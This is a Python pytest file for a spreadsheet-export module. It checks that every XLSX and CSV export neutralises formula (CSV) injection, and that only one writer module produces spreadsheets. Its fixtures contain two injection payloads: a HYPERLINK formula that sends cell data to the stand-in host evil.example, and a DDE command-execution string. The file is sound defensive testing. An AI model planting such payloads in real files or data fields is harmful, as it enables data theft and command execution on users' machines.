"""No export emits a live formula (issue 13, item 5; OWASP CSV injection), whichever writer
made it: every public export of app/exports (funder table, dashboard, any list, network
file) in XLSX and CSV, over persons whose names are typed as formulas, reads back with
no formula cell and no CSV cell a spreadsheet would evaluate. Only app/exports/writers.py
may write spreadsheets, so an export added later goes through the same guard — and this
test names every ``export_*`` function writing through app/exports (the FSE+ participant
file of app/workshops/fse_export.py too), so a new one must be added here."""

from __future__ import annotations

import ast
import csv
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.exports.funder import funder_table
from app.exports.network import export_network
from app.exports.service import export_dashboard, export_funder, export_table
from app.indicators.period import Filters, Period
from app.uow import UnitOfWorkFactory
from app.workshops import attendance, fse_export, registrations
from tests.indicators_data import Builder, D
from tests.workshops_support import BEFORE, DURING, FSE, new_session

ROOT = Path(__file__).resolve().parents[2]
YEAR = Filters(Period.year(2025))
HOSTILE_LAST = '=HYPERLINK("http://evil.example/?x="&A1;"Voir")'
HOSTILE_FIRST = "@SUM(1+1)*cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A CSV number as written for French Excel: a negative amount must stay a number.
CSV_NUMBER = re.compile(r"^-\d+(,\d+)?$")


def _funder_csv(uow: UnitOfWorkFactory, target: Path) -> Path:
    return export_funder(uow, YEAR, target)


def _dashboard(uow: UnitOfWorkFactory, target: Path) -> Path:
    return export_dashboard(uow, YEAR, target)


def _table(uow: UnitOfWorkFactory, target: Path) -> Path:
    return export_table(funder_table(uow, YEAR), target, [("Nom", HOSTILE_LAST)])


def _network(uow: UnitOfWorkFactory, target: Path) -> Path:
    return export_network(uow, 2025, target)


def _fse(uow: UnitOfWorkFactory, target: Path) -> Path:
    (operation,) = fse_export.operations(uow)
    fse_export.export_fse(uow, operation, target)
    return target


WRITERS: dict[str, Callable[[UnitOfWorkFactory, Path], Path]] = {
    "export_funder": _funder_csv,
    "export_dashboard": _dashboard,
    "export_table": _table,
    "export_network": _network,
    "export_fse": _fse,
}
# The formats each export writes (the FSE+ participant file is XLSX only).
CASES = [
    (w, s) for w in sorted(WRITERS) for s in (".xlsx", ".csv") if (w, s) != ("export_fse", ".csv")
]
# Exports whose file names persons (the others hold figures only).
NAMING = ("export_funder", "export_table", "export_fse")


@pytest.fixture
def hostile_names(uow: UnitOfWorkFactory) -> None:
    with Builder(uow) as b:
        pid = b.person(HOSTILE_LAST, HOSTILE_FIRST, "Reims")
        b._uow.session.flush()
        b.intake(pid, D(2025, 2, 1), "admis", town="Reims")
        b.stage(pid, "cape", D(2025, 3, 1))
        b.followup(pid, D(2025, 4, 1), 60)
        workshop = b.activity(D(2025, 3, 10), "Reims")
        b.mark(b.slot(workshop, D(2025, 3, 10), 9, 180), pid, "present")
        b.invoice(pid, D(2025, 3, 1), 123456)
    # An FSE+ operation the same person attended (app/workshops/fse_export.py).
    activity = new_session(uow, operation_refs={FSE: "202300123"})
    registrations.register_person(uow, activity, pid, now=BEFORE)
    attendance.mark_all_present(uow, activity, now=DURING)


def _xlsx_formulas(path: Path) -> list[str]:
    book = load_workbook(path)
    found = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                if b"<f>" in xml or b"<f " in xml:
                    found.append(name)
    return found


def _xlsx_texts(path: Path) -> set[str]:
    book = load_workbook(path)
    return {
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


def _csv_cells(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for row in csv.reader(text.splitlines(), delimiter=";") for cell in row]


@pytest.mark.parametrize(("writer", "suffix"), CASES)
def test_every_export_reads_back_without_a_live_formula(
    uow: UnitOfWorkFactory, hostile_names: None, tmp_path: Path, writer: str, suffix: str
) -> None:
    path = WRITERS[writer](uow, tmp_path / f"{writer}{suffix}")
    if suffix == ".xlsx":
        assert _xlsx_formulas(path) == []
        texts = _xlsx_texts(path)
        if writer in NAMING:
            assert HOSTILE_LAST in texts and HOSTILE_FIRST in texts  # as typed, as text
        return
    cells = _csv_cells(path)
    live = [c for c in cells if c.startswith(TRIGGERS) and not CSV_NUMBER.match(c)]
    assert live == []
    if writer in NAMING:
        assert "'" + HOSTILE_LAST in cells and "'" + HOSTILE_FIRST in cells


def test_every_export_function_is_covered_here() -> None:
    """Every ``export_*`` function of a module that writes through app/exports (its
    writers or its services), wherever it lives in app/, is read back above."""
    found = set()
    for path in sorted((ROOT / "app").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        uses_writers = path.parent.name == "exports" or any(
            isinstance(node, ast.ImportFrom)
            and (node.module or "").startswith(("app.exports.writers", "app.exports.service"))
            for node in ast.walk(tree)
        )
        if uses_writers:
            found |= {
                node.name
                for node in tree.body
                if isinstance(node, ast.FunctionDef) and node.name.startswith("export_")
            }
    assert found == set(WRITERS)


def test_only_the_neutralising_writers_write_spreadsheets() -> None:
    """csv and openpyxl are imported by app/exports/writers.py alone (in app/ and siege/),
    so no export can bypass :func:`app.exports.writers.neutralised`."""
    writers = {"csv", "openpyxl", "xlsxwriter"}
    offenders = []
    for folder in ("app", "siege"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                names = []
                if isinstance(node, ast.Import):
                    names = [alias.name for alias in node.names]
                elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
                    names = [node.module]
                if any(n.split(".")[0] in writers for n in names):
                    offenders.append(str(path.relative_to(ROOT)))
    assert sorted(set(offenders)) == ["app/exports/writers.py"]
